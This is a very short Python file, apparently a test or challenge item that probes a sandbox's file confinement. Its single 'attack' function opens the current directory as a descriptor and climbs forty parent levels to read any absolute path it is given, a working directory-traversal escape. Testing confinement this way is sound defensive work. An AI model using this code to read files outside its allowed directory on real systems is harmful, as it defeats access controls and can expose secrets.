# Opens the working folder as a descriptor and climbs with openat.
# proof: secret
import os


def attack(arg):
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    fd = os.open("../" * 40 + arg["public"].lstrip("/"), os.O_RDONLY, dir_fd=here)
    return os.read(fd, 4096)
